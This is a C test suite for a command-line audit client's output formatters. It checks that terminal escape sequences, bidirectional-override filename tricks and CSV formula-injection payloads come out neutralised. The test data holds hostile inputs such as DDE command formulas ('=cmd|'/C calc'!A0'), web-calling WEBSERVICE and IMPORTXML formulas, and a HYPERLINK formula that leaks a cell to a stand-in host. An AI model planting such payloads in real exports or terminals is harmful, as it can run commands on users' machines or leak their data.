/* Output forms under hostile text: what a terminal or a spreadsheet would act on never comes out as it went in. */
#include "client/format.h"
#include "client/outcome.h"
#include "client/request.h"
#include "client/term.h"
#include "client/value.h"

#include "audit/v1/inbox.pb-c.h"
#include "audit/v1/org.pb-c.h"
#include "audit/v1/plan.pb-c.h"

#include <criterion/criterion.h>
#include <criterion/new/assert.h>
#include <locale.h>

/* OSC (title, hyperlink), CSI, DCS, C1 forms of them, bidirectional overrides, DEL, backspace, carriage return, no UTF-8. */
static const char *const hostile[] = {
	"\033]0;owned\007", "\033]8;;http://x\033\\click", "\033[2J\033[1;1H", "\033Pq#0\033\\", "\xc2\x9b" "31m",
	"\xc2\x9d" "0;x\xc2\x9c", "\xe2\x80\xae" "gpj.exe", "\xe2\x81\xa6x\xe2\x81\xa9", "a\177b", "a\bb", "over\rwrite",
	"\xff\xfe", "\xc0\x80", "a\nb\tc",
};

static const char *const formula[] = { "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x\",\"y\")" };

static char *print(enum format_kind kind, const char *name, bool is_list, size_t *ret_len)
{
	char *text = NULL;
	struct status st = { 0 };
	struct format *f = NULL;
	Audit__Organisation row = AUDIT__ORGANISATION__INIT;
	row.id = "019ab04a-bfbb-7fff-bfff-ffffffffffff";
	row.name = name;
	row.version = 7;
	row.kind = AUDIT__ORGANISATION_KIND__ORGANISATION_KIND_SUPPLIER;
	FILE *to = open_memstream(&text, ret_len);
	cr_assert(eq(int, format_new(to, kind, schema_find_message(row.base.descriptor), NULL, is_list, &st, &f), OK));
	int rc = format_row(f, &row.base, &st);
	if (rc == OK)
		rc = format_end(f, &st);
	cr_expect(rc == OK || strcmp(st.reason, "JSON_TEXT") == 0, "%s %s", st.reason, st.message);
	format_free(f);
	(void)fclose(to);
	return text;
}

static bool is_harmless(const char *text, size_t len)
{
	for (size_t i = 0; i < len; i++) {
		unsigned char c = (unsigned char)text[i];
		if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7f)
			return false;
		if (c == 0xc2 && i + 1 < len && (unsigned char)text[i + 1] < 0xa0)
			return false;
		if (c == 0xe2 && i + 2 < len && ((unsigned char)text[i + 1] == 0x80 || (unsigned char)text[i + 1] == 0x81)) {
			unsigned char last = (unsigned char)text[i + 2];
			if ((unsigned char)text[i + 1] == 0x80 ? last >= 0xaa && last <= 0xae : last >= 0xa6 && last <= 0xa9)
				return false;
		}
	}
	return true;
}

Test(format, hostile_text_comes_out_harmless_in_every_form)
{
	(void)setlocale(LC_CTYPE, "C.UTF-8");
	for (size_t i = 0; i < ARRAY_LEN(hostile); i++) {
		for (int kind = FORMAT_TABLE; kind <= FORMAT_NAME; kind++) {
			size_t len = 0;
			char *one = print((enum format_kind)kind, hostile[i], false, &len);
			cr_expect(is_harmless(one, len), "text %zu, form %d", i, kind);
			free(one);
			char *many = print((enum format_kind)kind, hostile[i], true, &len);
			cr_expect(is_harmless(many, len), "text %zu, form %d, list", i, kind);
			free(many);
		}
	}
}

Test(format, names_of_200_columns_are_not_cut_in_a_pipe)
{
	char name[201], *text;
	size_t len = 0;
	memset(name, 'x', 200);
	name[200] = 0;
	text = print(FORMAT_TABLE, name, true, &len);
	cr_expect(strstr(text, name) != NULL);
	free(text);
}

Test(format, formulas_are_neutralised_in_csv)
{
	for (size_t i = 0; i < ARRAY_LEN(formula); i++) {
		size_t len = 0;
		char *text = print(FORMAT_CSV, formula[i], true, &len);
		cr_expect(strstr(text, ",'") || strstr(text, ",\"'"), "%s", text);
		free(text);
	}
}

/* Each way in which a cell can begin, before each thing that a spreadsheet would do. */
Test(format, a_corpus_of_formulas_is_neutralised_in_csv)
{
	static const char *const begin[] = { "", " ", "   ", "\xc2\xa0", "\xef\xbb\xbf", "\xe2\x80\x8b", "\xe3\x80\x80", " \xc2\xa0 " };
	static const char *const payload[] = { "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0",
		"-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0", "=HYPERLINK(\"http://x?\"&A1,\"y\")", "=IMPORTXML(\"http://x\",\"//a\")",
		"=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"a\")", "=-1", "==1", "=\t1", "\t=1", "\r=1", "\n=1",
		"|calc", "%0A=1", "\xef\xbc\x9d" "1+1", "\xef\xbc\x8b" "1", "\xef\xbc\x8d" "1", "\xef\xbc\xa0" "SUM(1)", "=A1;=A2" };
	size_t cells = 0;
	(void)setlocale(LC_CTYPE, "C.UTF-8");
	for (size_t i = 0; i < ARRAY_LEN(begin); i++) {
		for (size_t k = 0; k < ARRAY_LEN(payload); k++) {
			char name[200];
			size_t len = 0;
			(void)snprintf(name, sizeof(name), "%s%s", begin[i], payload[k]);
			char *text = print(FORMAT_CSV, name, true, &len);
			cr_expect(strstr(text, ",,'") || strstr(text, ",,\"'"), "%s", text);
			free(text);
			cells++;
		}
	}
	cr_expect(ge(sz, cells, 100));
}

/* What only looks alike stays as it was; and a semicolon begins no cell of its own. */
Test(format, other_text_is_left_alone_in_csv)
{
	static const char *const plain[] = { "a=b", "1-2", "mail@example.org", "100%", "x|y", "Umeå", "'quoted" };
	for (size_t i = 0; i < ARRAY_LEN(plain); i++) {
		char want[64];
		size_t len = 0;
		char *text = print(FORMAT_CSV, plain[i], true, &len);
		(void)snprintf(want, sizeof(want), ",,%s,", plain[i]);
		cr_expect(strstr(text, want) != NULL, "%s in %s", want, text);
		free(text);
	}
	size_t len = 0;
	char *text = print(FORMAT_CSV, "a;=1+1", true, &len);
	cr_expect(strstr(text, ",,\"a;=1+1\",") != NULL, "%s", text);
	free(text);
}

Test(format, csv_quotes_what_it_must)
{
	size_t len = 0;
	char *text = print(FORMAT_CSV, "Berg \"& Co\", Umeå\nline two", true, &len);
	cr_expect(eq(str, text, (char *)"id,version,parent_id,name,kind\n"
		"019ab04a-bfbb-7fff-bfff-ffffffffffff,7,,\"Berg \"\"& Co\"\", Umeå\nline two\",supplier\n"));
	free(text);
}

Test(format, json_and_lines_and_names_hold_the_row)
{
	size_t len = 0;
	static const struct { enum format_kind kind; const char *want; } row[] = {
		{ FORMAT_JSONL, "\"name\":\"Berg\"" },
		{ FORMAT_JSON, "[{\"id\":\"019ab04a-bfbb-7fff-bfff-ffffffffffff\"" },
		{ FORMAT_NAME, "019ab04a-bfbb-7fff-bfff-ffffffffffff\n" },
		{ FORMAT_YAML, "- id: \"019ab04a-bfbb-7fff-bfff-ffffffffffff\"\n" },
		{ FORMAT_TABLE, "Berg" },
	};
	for (size_t i = 0; i < ARRAY_LEN(row); i++) {
		char *text = print(row[i].kind, "Berg", true, &len);
		cr_expect(strstr(text, row[i].want) != NULL, "%s\nin\n%s", row[i].want, text);
		free(text);
	}
}

Test(format, columns_are_chosen_by_name)
{
	struct status st = { 0 };
	struct format *f = NULL;
	const struct message_rule *type = schema_find_message(&audit__organisation__descriptor);
	cr_expect(eq(int, format_new(stdout, FORMAT_TABLE, type, "id,parent-id", true, &st, &f), OK));
	format_free(f);
	cr_expect(eq(int, format_new(stdout, FORMAT_TABLE, type, "id,salary", true, &st, &f), INVALID_ARGUMENT));
	cr_expect(eq(str, st.reason, (char *)"NO_SUCH_COLUMN"));
}

/* A slot as a list and as one row; the caller frees the text. */
static char *print_slot(bool is_list)
{
	char *text = NULL;
	size_t len;
	struct status st = { 0 };
	struct format *f = NULL;
	Audit__SlotAssignment lena = AUDIT__SLOT_ASSIGNMENT__INIT, ida = AUDIT__SLOT_ASSIGNMENT__INIT, *both[] = { &lena, &ida };
	Audit__Slot row = AUDIT__SLOT__INIT;
	lena.team_member_id = ida.team_member_id = "019ab04a-bfbb-7fff-bfff-ffffffffffff";
	lena.person_name = "Lena Holm";
	ida.person_name = "Ida Berg";
	row.title = "Gate";
	row.from_us = 1803888000000000;
	row.to_us = 1803891600000000;
	row.local_time = "2027-03-01 09:00-10:00 +01:00";
	row.assignments = both;
	row.n_assignments = ARRAY_LEN(both);
	FILE *to = open_memstream(&text, &len);
	cr_assert(eq(int, format_new(to, FORMAT_TABLE, schema_find_message(row.base.descriptor), NULL, is_list, &st, &f), OK));
	cr_expect(eq(int, format_row(f, &row.base, &st), OK));
	cr_expect(eq(int, format_end(f, &st), OK));
	format_free(f);
	(void)fclose(to);
	return text;
}

Test(format, people_read_names_and_the_clock_on_the_wall)
{
	char *list = print_slot(true), *one = print_slot(false);
	cr_expect(strstr(list, "LOCAL TIME") && strstr(list, "2027-03-01 09:00-10:00 +01:00"), "%s", list);
	bool shows_moments = strstr(list, "FROM") || strstr(list, "2027-03-01T08");
	cr_expect(not(shows_moments), "moments are for programs");
	cr_expect(strstr(one, "assignments        Lena Holm\n") && strstr(one, "\n                   Ida Berg\n"), "%s", one);
	cr_expect(strstr(one, "2027-03-01T08:00:00Z") != NULL, "one row shows all of it");
	free(list);
	free(one);
}

Test(term, escapes_are_visible_and_json_stays_json)
{
	static const struct { const char *in; enum term_style style; const char *out; } row[] = {
		{ "Umeå", TERM_LINE, "Umeå" },
		{ "a\033b", TERM_LINE, "a\\u{1b}b" },
		{ "a\nb", TERM_LINE, "a\\nb" },
		{ "a\nb", TERM_LINES, "a\nb" },
		{ "\xe2\x80\xae", TERM_LINE, "\\u{202e}" },
		{ "\xe2\x80\xae", TERM_JSON, "\\u202e" },
		{ "\xc2\x9b", TERM_JSON, "\\u009b" },
		{ "\xff", TERM_LINE, "\\xff" },
	};
	for (size_t i = 0; i < ARRAY_LEN(row); i++) {
		struct buf b;
		buf_init(&b, 1000);
		term_clean(&b, bytes_of_text(row[i].in), row[i].style);
		cr_expect(eq(str, (char *)(uintptr_t)buf_text(&b), (char *)row[i].out), "row %zu", i);
		buf_done(&b);
	}
}

Test(outcome, codes_become_the_documented_exit_codes)
{
	static const struct { int code; const char *reason; int want; } row[] = {
		{ OK, "", 0 }, { INTERNAL, "", 1 }, { RESOURCE_EXHAUSTED, "", 1 }, { UNIMPLEMENTED, "", 1 },
		{ INVALID_ARGUMENT, "BAD_VALUE", 2 }, { OUT_OF_RANGE, "", 2 }, { UNAUTHENTICATED, "NOT_ENROLLED", 4 },
		{ PERMISSION_DENIED, "", 5 }, { NOT_FOUND, "", 6 }, { ALREADY_EXISTS, "", 7 },
		{ FAILED_PRECONDITION, "RULES_UNMET", 7 }, { ABORTED, "", 7 }, { DEADLINE_EXCEEDED, "DEADLINE", 8 },
		{ DATA_LOSS, "LOG_FORKED", 9 }, { UNAVAILABLE, "", 10 }, { DEADLINE_EXCEEDED, "NO_REPLY", 8 },
		{ DEADLINE_EXCEEDED, "DIAL_TIMEOUT", 10 },
		{ CANCELLED, "", 130 },
	};
	for (size_t i = 0; i < ARRAY_LEN(row); i++) {
		struct status st = { .code = row[i].code };
		(void)snprintf(st.reason, sizeof(st.reason), "%s", row[i].reason);
		cr_expect(eq(int, (int)outcome_of(&st), row[i].want), "%s", code_name(row[i].code));
	}
}

/* What `auditc inbox` warns by. */
Test(format, a_reply_says_that_it_leaves_something_out)
{
	Audit__ListInboxResponse inbox = AUDIT__LIST_INBOX_RESPONSE__INIT;
	Audit__ListOrganisationsResponse other = AUDIT__LIST_ORGANISATIONS_RESPONSE__INIT;
	bool is_cut = true;
	cr_expect(message_bool(&inbox.base, "is_cut", &is_cut));
	cr_expect(is_cut == false);
	inbox.is_cut = true;
	cr_expect(message_bool(&inbox.base, "is_cut", &is_cut));
	cr_expect(is_cut);
	cr_expect(message_bool(&other.base, "is_cut", &is_cut) == false, "most lists leave nothing out");
}
